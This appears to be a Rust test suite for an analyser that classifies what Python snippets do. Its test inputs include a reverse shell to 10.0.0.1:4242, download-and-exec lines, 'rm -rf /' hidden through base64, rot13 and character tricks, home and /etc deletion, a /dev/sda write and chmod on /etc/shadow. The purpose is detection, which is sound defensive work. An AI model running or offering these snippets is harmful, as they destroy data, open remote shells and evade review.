use super::check;
use crate::knowledge::Lang::Python;

#[test]
fn processes() {
    check(
        Python,
        &[
            ("import os; os.system('rm -rf /')", "shell rm -rf /"),
            ("import os as o; o.system(\"ls \" + \"-la\")", "shell ls -la"),
            ("from os import system as s\ns(f'rm -rf {x}')", "shell rm -rf ?"),
            ("from os import *\nsystem('id')", "shell id"),
            ("__import__('os').system('id')", "shell id"),
            ("__import__('o'+'s').__dict__['sys'+'tem']('id')", "shell id"),
            ("import os\ngetattr(os,'sys'+'tem')('id')", "shell id"),
            ("import os\ngetattr(os, name)('id')", "eval"),
            ("import importlib\nimportlib.import_module('os').popen('id').read()", "shell id"),
            ("import os\nglobals()['os'].system('id')", "shell id"),
            ("import sys\nsys.modules['os'].system('id')", "shell id"),
            ("import subprocess; subprocess.call([\"systemctl\",\"reboot\"])", "argv systemctl reboot"),
            ("import subprocess as sp\nsp.run('a | b', shell=True, check=True)", "shell a | b"),
            (
                "import subprocess\nsubprocess.run(['git', 'status'], cwd='/srv/x')",
                "argv git status in /srv/x",
            ),
            (
                "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pytest'])",
                "argv python3 -m pytest",
            ),
            ("from subprocess import Popen, PIPE\np = Popen(args=['ls'], stdout=PIPE)", "argv ls"),
            (
                "import subprocess\ncmd = ['rm', '-rf']\ncmd += ['/etc']\nsubprocess.run(cmd)",
                "argv rm -rf /etc",
            ),
            ("import os\nos.execvp('rm', ['rm', '-rf', '/'])", "argv rm -rf /"),
            ("import os\nos.execl('/bin/sh', 'sh', '-c', 'id')", "argv /bin/sh -c id"),
            ("import pty; pty.spawn('/bin/bash')", "argv /bin/bash"),
            ("import os\ncmd = 'rm -rf %s' % '/'\nos.system(cmd)", "shell rm -rf /"),
            ("import os\nos.system('rm {} {}'.format('-rf', '/'))", "shell rm -rf /"),
            ("import os\nos.system(' '.join(['rm', '-rf', '/']))", "shell rm -rf /"),
            ("import os\nos.system('/ fr- mr'[::-1])", "shell rm -rf /"),
            ("import os\nos.system(chr(114)+chr(109)+' -rf /')", "shell rm -rf /"),
            ("import os\nos.system(''.join(chr(c) for c in [114,109]))", "shell rm"),
            ("import os\nos.system(''.join(map(chr, [114, 109])))", "shell rm"),
            ("import os\nos.system(bytes.fromhex('726d').decode() + ' x')", "shell rm x"),
            ("import os, base64\nos.system(base64.b64decode('cm0gLXJmIC8=').decode())", "shell rm -rf /"),
            ("import os, codecs\nos.system(codecs.decode('ez -es /', 'rot13'))", "shell rm -rf /"),
            (
                "from hermes_tools import terminal\nprint(terminal('npm publish')['output'])",
                "shell npm publish",
            ),
            ("import os\ndef run(c):\n    return os.system(c)\nrun('ls')\nrun('id')", "shell ls; shell id"),
            ("import os\ndef run(c):\n    os.system(c)\n", "shell ?"),
            (
                "import asyncio\nasync def main():\n    p = await asyncio.create_subprocess_exec('ls', '-l')\nasyncio.run(main())",
                "argv ls -l",
            ),
            ("import threading, os\nthreading.Thread(target=os.system, args=('id',)).start()", "shell id"),
            ("import os\nfor c in ['ls', 'id']:\n    os.system(c)", "shell ls; shell id"),
            ("import os\nx = 'ls'\nif a:\n    x = 'id'\nos.system(x)", "shell ls; shell id"),
            ("import os\nos.kill(os.getppid(), 9)", "kill $PPID"),
            ("import os, signal\nos.kill(-1, signal.SIGKILL)", "kill -1"),
            ("import os\nos.kill(pid, 0)", ""),
            ("import sh\nsh.rm('-rf', '/')", "argv rm -rf /"),
        ],
    );
}

#[test]
fn files() {
    check(
        Python,
        &[
            ("import shutil; shutil.rmtree('/')", "delete! /"),
            ("from shutil import rmtree as r; r('/etc')", "delete! /etc"),
            ("import os, shutil\nshutil.rmtree(os.path.expanduser('~'))", "delete! ~"),
            ("import os, shutil\nshutil.rmtree(os.path.join(os.environ['HOME'], 'x'))", "delete! ~/x"),
            (
                "import shutil\nfrom pathlib import Path\nshutil.rmtree(Path.home() / 'x' / 'y')",
                "delete! ~/x/y",
            ),
            (
                "import pathlib, shutil\nhome = pathlib.Path.home()\nfor p in home.iterdir():\n    shutil.rmtree(p, ignore_errors=True) if p.is_dir() else p.unlink()",
                "delete! ~/*; delete ~/*",
            ),
            ("import glob, os\nfor f in glob.glob('/etc/*'):\n    os.remove(f)", "delete /etc/*"),
            ("import glob, os\n[os.remove(f) for f in glob.glob('/tmp/*.log')]", "delete /tmp/*.log"),
            (
                "import glob, os\nfor f in glob.glob('/etc/*'):\n    if f.endswith('.bak'):\n        os.remove(f)",
                "delete /etc/?.bak".trim_end_matches(".bak"),
            ),
            ("import os\nos.chdir('/')\nos.rmdir('etc')", "delete /etc"),
            (
                "import os, shutil\nos.chdir(os.path.expanduser('~'))\nfor d in os.listdir('.'):\n    shutil.rmtree(d)",
                "delete! ~/*",
            ),
            (
                "import os\nfor root, dirs, files in os.walk('/srv'):\n    for f in files:\n        os.remove(os.path.join(root, f))",
                "delete /srv/*",
            ),
            ("f=open('/dev/sda','wb'); f.write(b'x')", "write /dev/sda"),
            ("with open('out.txt', 'w') as f:\n    f.write('x')", "write out.txt"),
            ("with open('data.csv', newline='') as f:\n    print(f.read())", "read data.csv"),
            ("open(file='x', mode='a').write('y')", "write x"),
            (
                "import pathlib\np = pathlib.Path('a.json')\np.write_text(p.read_text().upper())",
                "read a.json; write a.json",
            ),
            ("from pathlib import Path\nPath('a').rename('b')", "move a b"),
            ("from pathlib import Path\nPath('/etc/passwd').chmod(0o777)", "mode /etc/passwd"),
            ("import os\nos.chmod('/etc/shadow', 0o777)", "mode /etc/shadow"),
            ("import shutil\nshutil.copy('a', '/etc/b')", "read a; write /etc/b"),
            ("import tempfile, shutil\nd = tempfile.mkdtemp()\nshutil.rmtree(d)", "delete! /tmp/?"),
            ("from pathlib import Path\ndef clean(p: Path):\n    p.unlink()\nclean(Path('x'))", "delete x"),
            (
                "import os\nclass A:\n    def __init__(self):\n        self.root = '/etc'\n    def go(self):\n        os.rmdir(self.root)\nA().go()",
                "delete /etc",
            ),
            ("import os\nlist(map(os.remove, ['a', 'b']))", "delete a; delete b"),
        ],
    );
}

#[test]
fn network() {
    check(
        Python,
        &[
            ("import requests\nrequests.get('https://x.example/a').json()", "fetch https://x.example/a"),
            ("import requests\nrequests.post('https://x.example', json={'a': 1})", "send https://x.example"),
            ("import requests\ns = requests.Session()\ns.delete(f'{base}/x')", "send ?/x"),
            (
                "import urllib.request\nr = urllib.request.urlopen('http://127.0.0.1:8000/h', timeout=5)",
                "fetch http://127.0.0.1:8000/h",
            ),
            (
                "from urllib.request import urlopen, Request\nurlopen(Request('https://x', data=b'1'))",
                "send https://x",
            ),
            (
                "import urllib.request as u; exec(u.urlopen('https://g.example/b.py').read())",
                "fetch https://g.example/b.py; eval downloaded",
            ),
            (
                "import requests\ncode = requests.get('https://x').text\nexec(compile(code, 'x', 'exec'))",
                "fetch https://x; eval downloaded",
            ),
            ("import socket\ns=socket.socket()\ns.connect(('10.0.0.1', 4444))", "connect 10.0.0.1:4444"),
            (
                "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"10.0.0.1\",4242));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])",
                "connect 10.0.0.1:4242; argv /bin/sh -i",
            ),
            ("import socket\ns = socket.socket()\ns.bind(('0.0.0.0', 80))\ns.listen()", "listen 0.0.0.0"),
            (
                "from http.server import HTTPServer, SimpleHTTPRequestHandler\nHTTPServer(('127.0.0.1', 8000), SimpleHTTPRequestHandler).serve_forever()",
                "listen 127.0.0.1",
            ),
            (
                "import http.client\nc = http.client.HTTPSConnection('x.example')\nc.request('POST', '/p', 'body')",
                "send x.example/p",
            ),
            ("import sqlite3\nc = sqlite3.connect('a.db')\nc.execute('DROP TABLE t')", "sql DROP TABLE t"),
            ("cursor.execute('select 1')", "sql select 1"),
            (
                "import smtplib\ns = smtplib.SMTP('mail.example')\ns.sendmail('a', 'b', 'c')",
                "send mail.example",
            ),
        ],
    );
}

#[test]
fn code_in_code() {
    check(
        Python,
        &[
            ("exec('import os; os.system(\"id\")')", "shell id"),
            ("eval('__import__(\"os\").system(\"id\")')", "shell id"),
            ("exec(open('x.py').read())", "read x.py; runfile x.py"),
            ("exec(\"import os as z\")\nz.system('id')", "shell id"),
            ("import base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))", "shell id"),
            ("exec(data)", "eval"),
            ("e = exec\ne('import os\\nos.remove(\"a\")')", "delete a"),
            ("exec(\"exec(\\\"exec('import os')\\\")\")", ""),
        ],
    );
}

#[test]
fn ordinary() {
    check(
        Python,
        &[
            (
                "examples = [\"rm -rf /\", \"DROP DATABASE prod\"]\nfor e in examples:\n    print('blocked:', e)",
                "",
            ),
            ("import re\nre.compile('rm -rf').match('x')", ""),
            ("d = {}\nd.pop('x')\nl = []\nl.remove(3)\ndf.drop('c')\nmodel.eval()", ""),
            ("'''os.system(\"rm -rf /\")'''\n# os.system('x')\nx = 1", ""),
            (
                "import torch\nmodel.train()\nfor x, y in loader:\n    loss = f(model(x), y)\n    loss.backward()\n    opt.step()\nmodel.eval()",
                "",
            ),
            ("def remove(x):\n    return x\nremove('/etc')", ""),
            ("import ast\nast.literal_eval('1')\nliteral_eval('2')", ""),
            ("x.unlink()\ny.rmdir()", ""),
            ("import json, sys\nd = json.load(sys.stdin)\nprint(json.dumps(d, indent=2))", ""),
            ("class os:\n    pass\n", ""),
            ("from mylib import system\nsystem('rm -rf /')", ""),
            ("import matplotlib.pyplot as plt\nplt.plot([1,2])\nplt.savefig('out.png')", "write out.png"),
            ("print(f\"{k:12} {n!r}\")", ""),
            (
                "x = {'a': 1, **b}\ny = [i for i in range(3) if i]\nz = (a, b)\nprint(x[1:2], lambda q: q + 1)",
                "",
            ),
            ("s = 'it''s'\nt = \"a\\\"b\"\nu = r'\\d'\nv = b'\\x00'", ""),
        ],
    );
}
